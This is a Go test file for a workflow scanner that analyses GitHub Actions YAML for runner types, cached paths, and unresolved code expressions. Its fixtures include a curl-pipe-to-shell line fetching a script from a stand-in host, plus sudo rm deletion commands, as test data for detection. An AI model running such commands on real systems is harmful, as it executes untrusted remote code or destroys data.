package scan

import (
	"reflect"
	"strings"
	"testing"
)

// TestMachineTable runs each row's examples, and the runs-on shapes that
// are not one label.
func TestMachineTable(t *testing.T) {
	for _, m := range machineTable() {
		if m.Why == "" || len(m.Examples) == 0 {
			t.Errorf("row %v: no reason or no examples", m.Label)
		}
		for _, e := range m.Examples {
			if got, _ := hostedLabel(e); got != m.Ephemeral {
				t.Errorf("%s: ephemeral %v, want %v (%s)", e, got, m.Ephemeral, m.Why)
			}
		}
	}
	for _, tc := range []struct {
		job  string
		want bool
	}{
		{"runs-on: ubuntu-latest", true},
		{"runs-on: 'ubuntu-22.04'", true},
		{"runs-on: [ubuntu-latest]", true},
		{"runs-on: self-hosted", false},
		{"runs-on: [self-hosted, linux]", false},
		{"runs-on:\n      - self-hosted\n      - x64", false},
		{"runs-on: big-runner-16core", false},
		{"runs-on: ubuntu-latest-16-cores", false}, // a larger runner's name: any organisation picks it
		{"runs-on:\n      group: ubuntu-runners\n      labels: ubuntu-latest", false},
		{"runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest, windows-latest]", true},
		{"runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, self-hosted]", false},
		{"runs-on: ${{ matrix.os }}\n    strategy: ${{ fromJson(needs.gen.outputs.strategy) }}", false},
		{"runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        include:\n          - os: ubuntu-latest\n          - os: macos-14", true},
		{"runs-on: ${{ inputs.runner }}", false},
		{"runs-on: ${{ matrix.os || 'ubuntu-latest' }}\n    strategy:\n      matrix:\n        os: [macos-14]", true},
		{"runs-on: ${{ matrix.os || 'ubuntu-latest' }}\n    strategy:\n      matrix:\n        py: ['3.8']", true},
		{"runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        py: ['3.8']", false},
		{"runs-on: ${{ matrix.os || 'ubuntu-latest' }}\n    strategy:\n      matrix:\n        os: ['${{ inputs.os }}']", false},
		{"runs-on: ${{ matrix.os || 'my-runner' }}\n    strategy:\n      matrix:\n        os: [macos-14]", false},
		{"strategy:\n      matrix:\n        go:\n        - '1.25'\n        os:\n        - ubuntu-latest\n        - macos-latest\n    runs-on: ${{ matrix.os }}", true},
		{"strategy:\n      matrix:\n        os:\n        - ubuntu-latest\n        - self-hosted\n    runs-on: ${{ matrix.os }}", false},
		{"runs-on: ${{ github.repository == 'o/r' && 'ubuntu-latest' || 'self-hosted' }}", false},
		{"uses: ./.github/workflows/reusable.yml", false},
		// Shapes guardsh does not follow are kept machines, never guessed hosted.
		{"runs-on: &r ubuntu-latest", false},
		{"runs-on: !!str ubuntu-latest", false},
		{"runs-on: [ubuntu-latest, self-hosted]", false},
		{"runs-on: ['${{ matrix.os }}']", false},
		{"runs-on: ubuntu-latest # self-hosted", true},
		{"runs-on: ubuntu-latest\n    container: debian:stretch", true},
		{"runs-on: ubuntu-latest\n    container:\n      image: node:20", true},
		{"runs-on: self-hosted\n    container: debian:stretch", false},
	} {
		text := "on: push\njobs:\n  j:\n    " + tc.job + "\n    steps:\n      - run: make\n"
		jobs := workflowJobs(text, strings.Count(text, "\n")+1)
		if len(jobs) != 1 {
			t.Errorf("%q: %d jobs", tc.job, len(jobs))
			continue
		}
		if jobs[0].ephemeral != tc.want {
			t.Errorf("%q: ephemeral %v, want %v (%s)", tc.job, jobs[0].ephemeral, tc.want, jobs[0].why)
		}
	}
}

// TestWorkflowRunner: which snippets are marked as on a throwaway runner,
// with the paths the job saves.
func TestWorkflowRunner(t *testing.T) {
	wf := `on: push
jobs:
  hosted:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/cache@v4
        with:
          path: |
            ~/.cache/pip
            !~/.cache/pip/skip
      - run: echo one
      - run: echo two
      - uses: actions/upload-artifact@v4
        with:
          path: dist/
  kept:
    runs-on: [self-hosted, linux]
    steps:
      - run: echo three
`
	snips, _ := Workflow(wf)
	if len(snips) != 3 {
		t.Fatalf("%d snippets", len(snips))
	}
	want := []struct {
		runner  bool
		persist []string
	}{{true, []string{"~/.cache/pip", "dist/"}}, {true, []string{"~/.cache/pip", "dist/"}}, {false, nil}}
	for i, w := range want {
		if snips[i].Runner != w.runner || !reflect.DeepEqual(snips[i].Persist, w.persist) {
			t.Errorf("snippet %d (%q): runner %v persist %q, want %v %q", i, snips[i].Text, snips[i].Runner, snips[i].Persist, w.runner, w.persist)
		}
	}
	// An artifact uploaded before the step holds nothing the step writes.
	wf2 := "jobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: out\n      - run: echo x\n"
	if s, _ := Workflow(wf2); len(s) != 1 || len(s[0].Persist) != 0 {
		t.Errorf("upload before the step: %+v", s)
	}
	// A step's working directory: the artifact's dist/ is . there.
	wf3 := "defaults:\n  run:\n    working-directory: pkg\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo a\n        working-directory: dist\n      - run: echo b\n      - uses: actions/upload-artifact@v4\n        with:\n          path: dist/\n"
	if s, _ := Workflow(wf3); len(s) != 2 || !reflect.DeepEqual(s[0].Persist, []string{"."}) || !reflect.DeepEqual(s[1].Persist, []string{"../dist/"}) {
		t.Errorf("working-directory: %+v", s)
	}
	// setup-* caches save their package directories at the job's end.
	wf4 := "jobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo a\n      - uses: actions/setup-node@v4\n        with:\n          cache: npm\n      - uses: actions/setup-go@v5\n      - uses: actions/setup-python@v5\n        with:\n          cache: false\n      - uses: actions/setup-node@v4\n        with:\n          cache: pnpm\n      - uses: actions/setup-node@v4\n        with:\n          cache: bun\n"
	if s, _ := Workflow(wf4); len(s) != 1 || !reflect.DeepEqual(s[0].Persist, []string{"~/.npm", "~/go/pkg/mod", "~/.cache/go-build", "~/.local/share/pnpm/store", "~/Library/pnpm/store", "${{ unknown cache }}"}) {
		t.Errorf("setup caches: %+v", s)
	}
	// A composite action's runner is its caller's: unknown.
	act := "name: x\nruns:\n  using: composite\n  steps:\n    - run: rm -rf ~/.cache\n      shell: bash\n"
	if s, _ := Workflow(act); len(s) != 1 || s[0].Runner || s[0].Text != "rm -rf ~/.cache" {
		t.Errorf("composite action: %+v", s)
	}
}

// TestWorkflowValues: literal matrix and env: values are put into the
// step as GitHub does; one version per matrix value; env: the step reads
// is assigned first; what is not literal keeps the placeholder.
func TestWorkflowValues(t *testing.T) {
	wf := `env:
  TOP: /opt/top
jobs:
  j:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        include:
          - compose_path: "/usr/local/lib/docker/cli-plugins"
          - compose_path: "/usr/local/bin"
        os: [a]
    env:
      HELPER: "./hack/ci/lima-helper.sh"
      FROM_MATRIX: ${{ matrix.os }}-x
      SECRET: ${{ secrets.TOKEN }}
    steps:
      - run: sudo rm -f "${{ matrix.compose_path }}/docker-compose"
      - run: '"$HELPER" sudo systemctl disable --now docker; echo $FROM_MATRIX $SECRET ${{ env.TOP }}'
        env:
          HELPER: ./other.sh
      - run: echo '${{ github.sha }}'
`
	snips, inj := Workflow(wf)
	var texts []string
	for _, s := range snips {
		texts = append(texts, s.Text)
	}
	want := []string{
		`sudo rm -f "/usr/local/lib/docker/cli-plugins/docker-compose"`,
		`sudo rm -f "/usr/local/bin/docker-compose"`,
		"export TOP=/opt/top\nexport HELPER=./other.sh\nexport FROM_MATRIX=a-x\n" + `"$HELPER" sudo systemctl disable --now docker; echo $FROM_MATRIX $SECRET /opt/top`,
		"echo '" + placeholder("${{ github.sha }}") + "'",
	}
	if !reflect.DeepEqual(texts, want) {
		t.Fatalf("got  %q\nwant %q", texts, want)
	}
	if len(inj) != 0 {
		t.Errorf("injections: %+v", inj)
	}
	// Lines and the file's text of a value put in.
	s := snips[0]
	i := strings.Index(s.Text, "/usr/local")
	if l := s.Line(i); l != 17 {
		t.Errorf("value at line %d, want 17", l)
	}
	if o := s.Original(0, len(s.Text), s.Text); o != `sudo rm -f "${{ matrix.compose_path }}/docker-compose"` {
		t.Errorf("Original: %q", o)
	}
	if o := s.Original(i, i+len("/usr/local"), "/usr/local"); o != "${{ matrix.compose_path }}" {
		t.Errorf("Original of the value: %q", o)
	}
	// The env: assignments are at their env: lines.
	s = snips[2]
	if l := s.Line(strings.Index(s.Text, "HELPER=")); l != 20 {
		t.Errorf("step env at line %d, want 20", l)
	}
	if l := s.Line(strings.Index(s.Text, `"$HELPER"`)); l != 18 {
		t.Errorf("code at line %d, want 18", l)
	}
}

// TestWorkflowCodeUnknown: a run: line that is nothing but an expression
// the file does not resolve is reported; one the matrix resolves is
// checked as code instead; an expression among other words is not.
func TestWorkflowCodeUnknown(t *testing.T) {
	wf := `jobs:
  gen:
    runs-on: ubuntu-latest
    strategy: ${{ fromJson(needs.g.outputs.s) }}
    steps:
      - run: ${{ matrix.runs.build }}
      - run: |
          set -x
          ${{ matrix.runs.test }}
      - run: make ${{ matrix.target }}
      - run: |
          make build \\
            ${{ matrix.extra && format('X={0}', matrix.extra) || '' }}
          cat <<EOF > x.txt
          ${{ matrix.body }}
          EOF
  known:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        cmd: ["make test", "curl -s https://x.example/i.sh | sh"]
    steps:
      - run: ${{ matrix.cmd }}
`
	snips, inj := Workflow(wf)
	var lines []int
	for _, in := range inj {
		if in.Rule != RuleCodeUnknown {
			t.Errorf("rule %q", in.Rule)
		}
		lines = append(lines, in.Line)
	}
	if !reflect.DeepEqual(lines, []int{6}) || !reflect.DeepEqual(inj[0].More, []int{9}) {
		t.Errorf("unknown code at lines %v, want [6] with more [9]: %+v", lines, inj)
	}
	found := false
	for _, s := range snips {
		if s.Text == "curl -s https://x.example/i.sh | sh" && s.Line(0) == 23 {
			found = true
		}
	}
	if !found {
		t.Errorf("the matrix's code is not checked: %+v", snips)
	}
}
